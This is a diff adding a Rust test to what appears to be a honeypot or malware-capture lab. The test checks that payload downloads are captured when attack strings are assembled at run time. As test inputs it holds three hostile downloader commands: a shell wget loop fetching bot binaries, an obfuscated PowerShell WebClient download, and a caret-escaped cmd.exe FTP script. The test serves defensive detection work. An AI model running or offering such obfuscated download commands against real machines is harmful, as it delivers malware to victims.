@@ -805,3 +805,34 @@ fn jndi_lookup_commands_are_fetched_and_endpoints_only_logged() {
     assert!(wait_for_text(&log, &line, T), "{}", lab.log());
     assert!(!lab.log().contains(":1389 ") && !lab.log().contains(&format!("{CLI4}:1389.")), "{}", lab.log());
 }
+
+#[test]
+fn strings_built_at_run_time_are_fetched() {
+    if !needs("strings_built_at_run_time_are_fetched") {
+        return;
+    }
+    let (arm, mips, ps, ftp) = (sample(45, 1900), sample(46, 2100), sample(47, 2700), sample(48, 3300));
+    let lab = Lab::start(&[("b.arm", &arm), ("b.mips", &mips), ("r.exe", &ps), ("f.exe", &ftp)], "");
+    // Shell: a variable and a loop over a literal list.
+    lab.attack(
+        format!("cd /tmp; u=http://{CLI4}; for a in arm mips; do wget $u/b.$a -O /tmp/bot.$a; done\n").into_bytes(),
+    );
+    // PowerShell: variables, concatenation, -join.
+    lab.attack(
+        format!(
+            "powershell -nop -c \"$h=('{}','{}') -join '.'; $u='ht'+'tp://'+$h+'/r.exe'; (New-Object Net.WebClient).DownloadFile($u,'C:\\Users\\Public\\r2.exe')\"\r\n",
+            &CLI4[..5],
+            &CLI4[6..]
+        )
+        .into_bytes(),
+    );
+    // cmd.exe: set and %h% in an FTP script, with caret escapes.
+    lab.attack(
+        format!("cmd /c set h={CLI4}&& e^cho open %h% 21>o&echo user foo bar>>o&echo binary>>o&echo get f.exe>>o&echo bye>>o&f^t^p -n -s:o\r\n")
+            .into_bytes(),
+    );
+    lab.expect_download("bot.arm", &arm);
+    lab.expect_download("bot.mips", &mips);
+    lab.expect_download("r2.exe", &ps);
+    lab.expect_download("f.exe", &ftp);
+}
